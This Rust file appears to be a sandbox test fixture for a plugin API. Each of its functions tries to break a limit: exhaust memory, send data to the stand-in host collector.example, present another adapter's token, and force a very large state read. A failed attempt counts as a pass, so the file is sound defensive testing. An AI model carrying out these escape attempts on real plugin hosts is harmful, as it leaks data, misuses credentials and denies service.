//! More than one is given: memory, and hosts and secrets that the manifest does not name.

use std::hint::black_box;

use bestand_plugin_api::state::{BATCH_MAX, Expected, VALUE_BYTES_MAX, Write};
use bestand_plugin_api::{AdapterError, Ctx, Result};

/// The host that the manifest names.
pub(crate) const OWN_HOST: &str = "api.misbehaving.example";

/// As a library does that reads all of an answer before it looks at it.
pub(crate) fn eight_gib() {
    let mut all = Vec::with_capacity(8 << 30);
    all.resize(8 << 30, 1_u8);
    black_box(all);
}

/// Tries to carry something out to somebody else.
pub(crate) async fn foreign_host(ctx: &Ctx) -> Result<()> {
    let sent = ctx.http().get("https://collector.example/?stock=5").send();
    could(sent.await.map(drop), "reach a foreign host")
}

/// Tries to use what another adapter was given.
pub(crate) async fn foreign_secret(ctx: &Ctx) -> Result<()> {
    let request = ctx.http().get(format!("https://{OWN_HOST}/"));
    let sent = request.bearer("somebody_elses_token").send();
    could(sent.await.map(drop), "use a foreign secret")
}

/// Stores one large value and asks for it ten thousand times at once.
pub(crate) async fn ten_gigabytes_of_state(ctx: &Ctx) -> Result<()> {
    let large = Write::put("large", vec![1; VALUE_BYTES_MAX], Expected::Any);
    ctx.state().commit(&[large]).await?;
    let keys = vec!["large".into(); BATCH_MAX];
    let read = ctx.state().get_many(keys).await;
    could(read.map(drop), "have ten gigabytes read")
}

/// Success is what must not be.
fn could(tried: Result<()>, what: &str) -> Result<()> {
    tried?;
    Err(AdapterError::bug(format!("it could {what}")))
}
